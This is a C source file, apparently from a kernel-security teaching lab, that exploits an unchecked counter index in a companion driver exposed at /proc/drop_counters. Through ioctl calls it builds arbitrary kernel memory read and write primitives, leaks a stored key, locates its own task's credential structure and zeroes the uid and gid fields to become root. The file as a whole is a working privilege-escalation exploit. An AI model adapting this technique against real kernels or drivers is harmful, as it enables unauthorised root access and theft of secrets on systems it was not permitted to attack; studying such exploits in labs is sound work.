// SPDX-License-Identifier: GPL-2.0-only OR MIT
// What an ordinary user does with secret.c's mistake: reads the key, finds its own credentials, and writes root's into them. For a machine
// that was made for it (`make try`), and for no other.
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

struct request {
	long number;
	uint64_t value;
};
#define GET_COUNTER 0xd001
#define SET_COUNTER 0xd002

static int fd;
/* where the counters stand in the kernel's memory */
static uint64_t counters;

static uint64_t ask(long number)
{
	struct request request = { .number = number };

	if (ioctl(fd, GET_COUNTER, &request))
		perror("ioctl");
	return request.value;
}

static uint64_t read_memory(uint64_t address)
{
	return ask((long)(address - counters) / 8);
}

static void write_memory(uint64_t address, uint64_t value)
{
	struct request request = { .number = (long)(address - counters) / 8, .value = value };

	if (ioctl(fd, SET_COUNTER, &request))
		perror("ioctl");
}

int main(void)
{
	uint64_t task, key, cred = 0, words[4] = { 0 };
	int i;

	fd = open("/proc/drop_counters", O_RDWR);
	if (fd < 0) {
		perror("/proc/drop_counters");
		return 1;
	}
	printf("attack: uid %d\n", getuid());

	/* Behind the four counters: a list that leads to itself, who asked last, and the key. */
	counters = ask(4) - 4 * 8;
	task = ask(6);
	key = ask(7);
	for (i = 0; i < 3; i++)
		words[i] = read_memory(key + i * 8);
	printf("attack: the key is \"%s\"\n", (char *)words);

	/* My task has my name in it, and two words before the name it points to my credentials. */
	for (i = 0; i < 1024 && !cred; i++) {
		uint64_t name = read_memory(task + i * 8);

		if (!memcmp(&name, "attack", 7))
			cred = read_memory(task + i * 8 - 16);
	}
	/* They begin with a counter of 4 or 8 bytes; then come the user's and the group's number, four times each. */
	for (i = 0; cred && i < 6; i++) {
		uint64_t ids = read_memory(cred + i * 8);

		if ((uint32_t)ids == getuid() || ids >> 32 == getuid())
			write_memory(cred + i * 8, 0);
		if (getuid() == 0)
			break;
	}
	printf("attack: uid %d\n", getuid());
	return getuid() != 0;
}
